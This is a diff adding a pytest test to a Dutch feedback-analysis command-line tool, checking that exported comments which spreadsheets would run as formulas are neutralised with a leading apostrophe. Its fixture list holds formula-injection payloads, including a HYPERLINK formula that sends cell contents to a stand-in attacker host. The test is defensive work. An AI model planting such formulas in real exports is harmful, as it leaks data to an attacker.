@@ -12,6 +12,7 @@ from click.testing import CliRunner
 from openpyxl import Workbook
 
 from denkraam.cli import main
+from denkraam.reports.exports.tabular import safe_cell
 
 
 @pytest.fixture
@@ -135,3 +136,45 @@ def test_both_commands_are_documented_in_help() -> None:
     for command in ("scrub", "feedback"):
         code, out, _ = _run(command, "--help")
         assert code == 0 and "Usage" in out
+
+
+HOSTILE_COMMENTS = [
+    '=HYPERLINK("http://aanvaller.example/?d="&A1;"Klik hier voor uw toeslag")',
+    "+31 is het nummer dat ik belde, niemand nam op",
+    "-1 punt, de wachttijd was veel te lang",
+    "@SUM(1+1) de brief was onduidelijk",
+    "\t=1+2 tab ervoor, en toch een formule",
+    "\r=1+2 een regelterugloop ervoor",
+]
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_feedback_csv_neutralises_comments_a_spreadsheet_would_run_as_a_formula(tmp_path: Path, kind: str) -> None:
+    path = tmp_path / f"kto.{kind}"
+    if kind == "csv":
+        with path.open("w", encoding="utf-8", newline="") as handle:
+            writer = csv.writer(handle, delimiter=";")
+            writer.writerow(["id", "opmerking"])
+            writer.writerows([i, comment] for i, comment in enumerate(HOSTILE_COMMENTS, start=1))
+    else:
+        workbook = Workbook()
+        sheet = workbook.active
+        assert sheet is not None
+        sheet.append(["id", "opmerking"])
+        for i, comment in enumerate(HOSTILE_COMMENTS, start=1):
+            sheet.append([i, comment])
+        for row in sheet.iter_rows(min_row=2):
+            row[1].data_type = "s"  # stored as the text it is, not as a formula of the test's own workbook
+        workbook.save(path)
+    target = tmp_path / "uit.csv"
+    args = ("feedback", str(path), "--text-column", "opmerking", "--no-names")
+    code, _, _ = _run(*args, "--format", "csv", "--output", str(target))
+    assert code == 0
+    with target.open(encoding="utf-8", newline="") as handle:
+        texts = [row["text"] for row in csv.DictReader(handle)]
+    analysed = [comment["text"] for comment in json.loads(_run(*args)[1])]
+    assert len(texts) == len(analysed) == len(HOSTILE_COMMENTS)
+    # Exactly what the web exports do: a leading apostrophe before the text, which is otherwise kept.
+    assert texts == [safe_cell(text) for text in analysed]
+    assert all(text.startswith("'") for text in texts), texts
+    assert texts[0] == "'" + HOSTILE_COMMENTS[0]
